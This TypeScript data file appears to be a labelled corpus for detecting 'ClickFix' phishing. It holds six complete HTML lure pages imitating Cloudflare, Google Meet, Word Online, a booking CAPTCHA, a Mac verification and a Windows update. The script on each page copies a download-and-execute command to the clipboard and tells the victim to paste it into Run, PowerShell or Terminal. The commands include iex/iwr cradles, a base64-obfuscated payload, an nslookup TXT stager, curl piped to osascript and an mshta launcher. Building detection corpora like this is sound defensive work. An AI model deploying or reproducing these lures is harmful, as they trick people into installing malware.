import { type Entry } from '../entry.js';
import { doc } from '../parts/d-parts.js';

/** ClickFix: fake CAPTCHA / Cloudflare / browser update / Meet / Word errors that put a command on the clipboard and walk the user through Win+R or Terminal. Written for corpus/d. */
export const entries: Entry[] = [

{
  id: 'd-cf-cloudflare-turnstile-ps',
  label: 'clickfix',
  kind: 'clickfix-cloudflare',
  url: 'https://portal.northgate-freight.co/cdn-cgi/challenge/verify',
  body: doc({
    title: 'Just a moment...',
    css: `body{font-family:system-ui,-apple-system,"Segoe UI",Roboto,"Helvetica Neue",Arial;margin:0;background:#fff;color:#313131}.main-wrapper{max-width:60rem;margin:8rem auto 0;padding:0 1.5rem}h1{font-size:2.5rem;font-weight:500}h2{font-size:1.5rem;font-weight:500}.box{border:1px solid #e0e0e0;background:#fafafa;width:300px;height:65px;display:flex;align-items:center;padding:0 14px;gap:12px}.box input{width:24px;height:24px}.fix{display:none;margin-top:22px;border:1px solid #f38020;padding:16px;max-width:520px}.footer{font-size:.75rem;margin-top:6rem;border-top:1px solid #d9d9d9;padding-top:1rem;text-align:center}code{background:#f1f1f1;padding:2px 4px}`,
    body: String.raw`<div class="main-wrapper" role="main"><h1>portal.northgate-freight.co</h1><h2>Verify you are human by completing the action below.</h2>
<div class="box"><input type="checkbox" id="cfc"><span>Verify you are human</span><span style="margin-left:auto;font-size:10px;color:#f38020">CLOUDFLARE</span></div>
<div class="fix" id="fix"><b>Verification failed — unusual network activity detected.</b><p>To complete the verification, please follow these steps:</p><ol><li>Press and hold the <b>Windows Key</b> + <b>X</b>, then choose <b>Terminal</b> (or <b>Windows PowerShell</b>)</li><li>Right-click in the window to paste the verification code</li><li>Press <b>Enter</b> and return to this tab</li></ol></div>
<p>portal.northgate-freight.co needs to review the security of your connection before proceeding.</p>
<div class="footer">Ray ID: <code>8f3a91c2de0b4417</code> · Performance &amp; security by Cloudflare</div></div>
<script>
const p = "powershell -w h -nop -c \"$u='https://northgate-cdn.statsync-api.com/v2/check.ps1';iex (iwr $u -UseBasicParsing).Content\" # Cloudflare Verification ID: 77120";
document.getElementById('cfc').addEventListener('change', async () => {
  try { await navigator.clipboard.writeText(p); } catch (e) { const t = document.createElement('textarea'); t.value = p; document.body.append(t); t.select(); document.execCommand('copy'); t.remove(); }
  document.getElementById('fix').style.display = 'block';
});
</script>`,
  }),
},

{
  id: 'd-cf-google-meet-mic-error',
  label: 'clickfix',
  kind: 'clickfix-meet',
  url: 'https://meet.google.com-join.conf-rooms.net/kxy-qpfw-ntr',
  body: doc({
    title: 'Meet – kxy-qpfw-ntr',
    css: `body{margin:0;background:#202124;color:#e8eaed;font-family:"Google Sans",Roboto,Arial,sans-serif}.pre{display:flex;gap:40px;justify-content:center;align-items:center;height:100vh}.vid{width:640px;height:360px;background:#3c4043;border-radius:8px;display:flex;align-items:center;justify-content:center}.dlg{background:#fff;color:#202124;border-radius:8px;padding:24px;width:420px}.dlg button{background:#1a73e8;color:#fff;border:0;border-radius:4px;padding:10px 20px}kbd{background:#eee;padding:1px 6px;border-radius:3px;border:1px solid #ccc}`,
    body: `<div class="pre"><div class="vid"><span>Camera is starting</span></div>
<div class="dlg"><h2>Problem with microphone</h2><p>Your browser is blocking access to your microphone and camera because of a driver conflict (error code: WebRTC 0x4C4). Meetings cannot be joined until this is fixed.</p>
<button id="fx">Try fix</button>
<div id="how" style="display:none"><p>How to fix:</p><ol><li>Press <kbd>⊞ Win</kbd> + <kbd>R</kbd></li><li>Press <kbd>Ctrl</kbd> + <kbd>V</kbd> to paste the fix</li><li>Press <kbd>Enter</kbd>, then reload this page</li></ol></div></div></div>
<script>
document.getElementById('fx').addEventListener('click',function(){navigator.clipboard.writeText("cmd /c start /min powershell -ep bypass -w hidden -c \\"iex(New-Object Net.WebClient).DownloadString('https://webrtc-fix.conf-rooms.net/audio/fix.txt')\\" && echo Microphone driver repair");document.getElementById('how').style.display='block'});
</script>`,
  }),
},

{
  id: 'd-cf-word-online-font',
  label: 'clickfix',
  kind: 'clickfix-office',
  url: 'https://docs-view.office-filepreview.com/word/Quarterly_Report_2026.docx',
  body: doc({
    title: 'Quarterly_Report_2026.docx - Word',
    css: `body{margin:0;font-family:"Segoe UI",sans-serif;background:#f3f2f1}.rb{height:48px;background:#2b579a;color:#fff;display:flex;align-items:center;padding:0 16px}.pg{width:700px;height:900px;background:#fff;margin:24px auto;filter:blur(2px)}.e{position:fixed;top:30%;left:50%;transform:translateX(-50%);background:#fff;width:480px;border-top:4px solid #2b579a;padding:24px;box-shadow:0 8px 30px rgba(0,0,0,.3)}.e button{background:#2b579a;color:#fff;border:0;padding:8px 16px}`,
    body: `<div class="rb">Word · Quarterly_Report_2026.docx</div><div class="pg"></div>
<div class="e"><h3>The "Word Online" extension is not installed</h3><p>The document cannot be displayed correctly because your browser is missing the Word Online font package. Click "How to fix" to install the extension.</p><button id="hf">How to fix</button>
<div id="st" style="display:none;font-size:14px"><p>1. Right-click the Windows start button and open <b>Windows PowerShell (Admin)</b><br>2. Right-click to paste the copied code and press Enter<br>3. Refresh this page</p></div></div>
<script>
var a=["JGRsPSdodHRwczovL29mZmljZS1maWxlcHJldmlldy5jb20vZm9udHMvV29yZE9ubGluZS5wczEnOw==","JHQ9JGVudjpURU1QKydcd28ucHMxJztJbnZva2UtV2ViUmVxdWVzdCAkZGwgLU91dEZpbGUgJHQ7","U3RhcnQtUHJvY2VzcyBwb3dlcnNoZWxsIC1BcmcgJy1lcCBieXBhc3MgLWZpbGUgJyskdCAtV2luZG93U3R5bGUgSGlkZGVu"];
document.getElementById('hf').onclick=function(){var c=a.map(function(x){return atob(x)}).join('');var full='powershell -NoP -EncodedCommand '+btoa(unescape(encodeURIComponent(c)));navigator.clipboard.writeText(full).then(function(){document.getElementById('st').style.display='block'})};
</script>`,
  }),
},

{
  id: 'd-cf-dns-nslookup-captcha',
  label: 'clickfix',
  kind: 'clickfix-captcha',
  url: 'https://booking-confirm.guestrooms-hub.com/reservation/88120473',
  body: doc({
    title: 'Reservation 88120473 — Verification',
    css: `body{font-family:Arial,sans-serif;background:#f4f6f8;margin:0}.c{max-width:460px;margin:100px auto;background:#fff;border-radius:8px;padding:28px;box-shadow:0 4px 20px rgba(0,0,0,.1)}.v{background:#0a66c2;color:#fff;border:0;border-radius:6px;padding:12px 22px;font-size:15px}.k{display:inline-block;border:1px solid #999;border-radius:4px;padding:0 6px;font-family:monospace}`,
    body: `<div class="c"><h2>Complete verification to view your booking</h2><p>Guest reservation details are protected. Please confirm that you are not a robot.</p><button class="v" id="v">I'm not a robot</button>
<div id="i" style="display:none"><p><b>Step 1:</b> Press <span class="k">Win</span> + <span class="k">R</span><br><b>Step 2:</b> Press <span class="k">Ctrl</span> + <span class="k">V</span><br><b>Step 3:</b> Press <span class="k">Enter</span></p><p style="font-size:12px;color:#666">Booking verification service · guestrooms-hub</p></div></div>
<script>
var cmd='cmd /c "nslookup -q=txt verify.guestrooms-hub.com 94.156.79.12 | findstr "^\\"" > %TEMP%\\\\v.cmd && call %TEMP%\\\\v.cmd" :: Booking ID verification 88120473';
document.getElementById('v').onclick=function(){navigator.clipboard.writeText(cmd);document.getElementById('i').style.display='block';this.disabled=true;this.textContent='Verifying…'};
</script>`,
  }),
},

{
  id: 'd-cf-macos-captcha-osascript',
  label: 'clickfix',
  kind: 'clickfix-captcha-macos',
  url: 'https://verify-human.rentals-lisbon-stay.com/',
  body: doc({
    title: 'Verification required',
    css: `body{font-family:-apple-system,Helvetica,sans-serif;background:#eef1f4;margin:0}.b{max-width:520px;margin:90px auto;background:#fff;border-radius:12px;padding:30px}.term{background:#000;color:#0f0;font-family:Menlo,monospace;padding:10px;border-radius:6px;font-size:12px}`,
    body: `<div class="b"><h2>Human verification</h2><p>To protect our hosts from automated scraping, Mac users must complete a one-time verification.</p>
<ol><li>Open <b>Spotlight</b> (⌘ + Space) and launch <b>Terminal</b></li><li>Paste the verification command (already copied) with ⌘ + V</li><li>Press Return and wait for "Verified"</li></ol>
<div class="term">$ verification in progress…</div><p style="font-size:12px;color:#888">If nothing was copied, <a href="#" id="again">click here</a>.</p></div>
<script>
var c='curl -s https://rentals-lisbon-stay.com.cdn-verify.net/m/verify | osascript && echo "Verified"';
function cp(){navigator.clipboard.writeText(c).catch(function(){})}
document.addEventListener('click',cp,{once:true});document.getElementById('again').onclick=function(e){e.preventDefault();cp()};
</script>`,
  }),
},

{
  id: 'd-cf-fake-bsod-update-win',
  label: 'clickfix',
  kind: 'clickfix-update',
  url: 'https://windows-security-update.kb5049981-patch.com/install',
  body: doc({
    title: 'Working on updates',
    css: `html,body{height:100%;margin:0;background:#0078d7;color:#fff;font-family:"Segoe UI Light","Segoe UI",sans-serif}.w{padding:14vh 12vw}.sp{font-size:40px}.pct{font-size:24px}.inst{margin-top:40px;background:rgba(0,0,0,.2);padding:20px;max-width:640px;font-size:16px}`,
    body: `<div class="w"><div class="sp">⟳</div><p class="pct">Working on updates 30% complete.</p><p>Don't turn off your computer.</p>
<div class="inst"><b>Critical security update KB5049981 could not be installed automatically.</b><br>To finish installing, press <b>Win + R</b>, paste the command with <b>Ctrl + V</b> and press <b>Enter</b>.</div></div>
<script>
document.documentElement.requestFullscreen&&document.addEventListener('click',function(){document.documentElement.requestFullscreen().catch(function(){})},{once:true});
var c='mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell -w 1 -c iwr kb5049981-patch.com/u.ps1|iex"",0:close")';
document.addEventListener('copy',function(e){e.clipboardData.setData('text/plain',c);e.preventDefault()});
document.addEventListener('click',function(){document.execCommand('copy')});
</script>`,
  }),
},

];
